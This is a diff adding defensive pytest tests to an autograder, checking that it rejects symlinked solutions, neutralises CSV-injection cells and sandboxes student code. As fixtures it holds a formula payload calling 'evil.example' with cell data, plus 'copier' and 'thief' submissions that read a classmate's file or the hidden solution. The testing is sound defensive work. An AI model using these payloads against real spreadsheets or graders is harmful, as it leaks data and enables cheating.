@@ -333,3 +333,161 @@ def test_concurrent_grades_each_get_a_fork_server_pid_namespace_and_uid_of_their
         finally:
             for c in kids:
                 c.close()
+
+
+# ---------------------------------------------------------------------------
+# The class's files as the grading process reads them (outside any sandbox)
+
+def _installed_solution() -> Path:
+    import sftkl.problems.sft_loss as pkg
+
+    return Path(pkg.__file__).resolve().parent / "solution_numpy.py"
+
+
+def test_a_batch_never_grades_a_symlink_out_of_the_students_own_submission(tmp_path):
+    """A student folder whose file is a symbolic link to sftkl's own solution, or to a classmate's
+    file, is not graded as theirs (git clones and unzipped uploads keep links); a folder the
+    instructor linked into DIR still is."""
+    from sftkl.classroom.batch import run_batch
+
+    good = sorted((Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py"))[0]
+    subs = tmp_path / "class"
+    for name in ("linker", "copier", "victim"):
+        (subs / name).mkdir(parents=True)
+    write(subs / "victim" / "sft_loss.py", good.read_text("utf-8"))
+    os.symlink(_installed_solution(), subs / "linker" / "sft_loss.py")
+    os.symlink("../victim/sft_loss.py", subs / "copier" / "sft_loss.py")
+    os.symlink(_installed_solution(), subs / "toplevel.py")
+    os.symlink(subs / "victim" / "sft_loss.py", subs / "toplevel2.py")
+    elsewhere = tmp_path / "clones" / "linked"
+    elsewhere.mkdir(parents=True)
+    write(elsewhere / "sft_loss.py", good.read_text("utf-8"))
+    os.symlink(elsewhere, subs / "linked")  # the instructor's own link: graded
+    result = run_batch(subs, "sft-loss", "numpy", out=tmp_path / "out", jobs=2, seed=3, limits=LIMITS)
+    rows = {r.student: r for r in result.rows}
+    assert rows["victim"].verdict == "pass" and rows["linked"].verdict == "pass"
+    for name in ("linker", "copier", "toplevel", "toplevel2"):
+        assert rows[name].verdict == "fail" and rows[name].status == "no-file" and rows[name].passed == 0, rows[name]
+        assert "symbolic link out of" in rows[name].error, rows[name].error
+
+
+def test_gradescope_never_grades_a_symlink_out_of_the_submission(tmp_path):
+    """Gradescope keeps the links of a GitHub submission: one to the installed solution scores 0."""
+    from sftkl.classroom.autograder import run_gradescope
+
+    sub = tmp_path / "submission"
+    sub.mkdir()
+    os.symlink(_installed_solution(), sub / "sft_loss.py")
+    doc = run_gradescope("sft-loss", "numpy", sub, tmp_path / "results.json", seed=5)
+    assert doc["score"] == 0 and not any(t["status"] == "passed" for t in doc["tests"])
+    assert "symbolic link" in doc["output"], doc["output"]
+    nested = tmp_path / "nested"
+    (nested / "src").mkdir(parents=True)
+    os.symlink(_installed_solution(), nested / "src" / "anything.py")
+    doc = run_gradescope("sft-loss", "numpy", nested, tmp_path / "results2.json", seed=5)
+    assert doc["score"] == 0 and "symbolic link" in doc["output"], doc["output"]
+
+
+def test_results_csv_cells_cannot_be_formulas_or_break_lines(tmp_path):
+    """A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): a folder
+    name or an exception message a student chose never starts one, and every row is one line."""
+    import csv
+
+    from sftkl.classroom.batch import run_batch
+
+    head = "# sftkl: problem=sft-loss track=numpy\n"
+    subs = tmp_path / "class"
+    formula = '=HYPERLINK("evil.example?"&A1,"open")'  # a folder name: no slash
+    for name in (formula, "@SUM(1+1)", "+1", "-2"):
+        (subs / name).mkdir(parents=True)
+        write(subs / name / "sft_loss.py", head + "def sft_loss(logits, labels, ignore_index=-100):\n    return 0.5\n")
+    (subs / "-3").mkdir()  # nothing to grade: the error names the folder
+    write(subs / "lines.py", head + f"raise ValueError({formula!r} + '\\nsecond line\\r\\nthird')\n")
+    write(subs / "casemsg.py", head + "def sft_loss(logits, labels, ignore_index=-100):\n    raise ValueError('x\\n=1+1')\n")
+    run_batch(subs, "sft-loss", "numpy", out=tmp_path / "out", jobs=2, seed=3, limits=LIMITS)
+    text = (tmp_path / "out" / "results.csv").read_text("utf-8")
+    rows = list(csv.reader(text.splitlines(keepends=True)))
+    assert len(text.splitlines()) == len(rows) == 8, text
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
+            assert "\n" not in cell and "\r" not in cell, (cell, row)
+    students = {r[0] for r in rows[1:]}
+    assert "'" + formula in students and "'-3" in students  # shown as text, not dropped
+    json_rows = {r["student"] for r in __import__("json").loads((tmp_path / "out" / "results.json").read_text())["rows"]}
+    assert formula in json_rows  # results.json keeps the names as they are
+
+
+def test_a_class_folder_inside_the_sandboxs_view_is_hidden_from_the_students(tmp_path, monkeypatch):
+    """DIR under /usr (Docker's usual WORKDIR /usr/src/app) or inside a Python installation lies
+    in the sandbox's read-only view: a student there would read a classmate's file and pass
+    with it. The batch hides DIR and the output folder; the Python installation still works."""
+    needs_sandbox()
+    from sftkl.classroom.batch import run_batch
+
+    root = tmp_path / "usr-src-app"  # stands for a folder the view binds
+    subs = root / "class"
+    subs.mkdir(parents=True)
+    real_roots = jail._python_roots
+    monkeypatch.setattr(jail, "_python_roots", lambda: [*real_roots(), str(root)])
+    monkeypatch.setattr(jail, "_view_cache", None)
+    good = sorted((Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py"))[0]
+    write(subs / "good.py", good.read_text("utf-8"))
+    write(subs / "copier.py", f'''# sftkl: problem=sft-loss track=numpy
+import os
+CLASS = {str(subs)!r}
+_copied = None
+try:
+    for name in sorted(os.listdir(CLASS)):
+        if name.endswith(".py") and name != "copier.py":
+            ns = {{}}
+            with open(os.path.join(CLASS, name)) as f:
+                exec(f.read(), ns)
+            _copied = ns["sft_loss"]
+            print("copied", name)
+            break
+except OSError as e:
+    print("cannot read the class:", e)
+
+
+def sft_loss(logits, labels, ignore_index=-100):
+    return _copied(logits, labels, ignore_index) if _copied else 0.5
+''')
+    result = run_batch(subs, "sft-loss", "numpy", out=root / "out", jobs=2, seed=3, limits=LIMITS)
+    rows = {r.student: r for r in result.rows}
+    assert rows["good"].verdict == "pass", rows["good"]
+    assert rows["copier"].verdict == "fail" and rows["copier"].passed < rows["copier"].total, rows["copier"]
+    assert not getattr(jail, "_also_hidden", [])  # nothing stays hidden after the batch
+
+
+def test_a_checkout_holding_the_venv_inside_the_view_is_hidden_and_python_still_runs(tmp_path, monkeypatch):
+    """sftkl's copy lies in the view and holds the Python installation the child runs from (a
+    Docker image's /usr/src/app with its .venv, a `pip install -e` beside `python -m venv .venv`):
+    the copy is hidden, the installation stays, a correct file passes and the solution is out of reach."""
+    needs_sandbox()
+    import sys
+
+    checkout = os.path.realpath(jail.PACKAGE_DIR)
+    if not any(jail._under(os.path.realpath(r), checkout) for r in (sys.prefix, sys.executable)):
+        pytest.skip("this Python does not lie inside sftkl's folder")
+    real_roots = jail._python_roots
+    monkeypatch.setattr(jail, "_python_roots", lambda: [*real_roots(), checkout])
+    monkeypatch.setattr(jail, "_view_cache", None)
+    monkeypatch.setattr(pool, "_warm_depth", 0)
+    solution = Path(checkout) / "problems" / "sft_loss" / "solution_numpy.py"
+    assert solution.is_file()
+    good = sorted((Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py"))[0]
+    assert grade(write(tmp_path / "good.py", good.read_text("utf-8")), seed=5, limits=LIMITS).verdict == "pass"
+    thief = write(tmp_path / "thief.py", f'''# sftkl: problem=sft-loss track=numpy
+ns = {{}}
+try:
+    exec(open({str(solution)!r}).read(), ns)
+except OSError as e:
+    print("hidden:", e)
+
+
+def sft_loss(logits, labels, ignore_index=-100):
+    return ns["sft_loss"](logits, labels, ignore_index) if "sft_loss" in ns else 0.5
+''')
+    report = grade(thief, seed=5, limits=LIMITS)
+    assert report.verdict == "fail" and "hidden:" in report.stdout, (report.stdout, report.error)
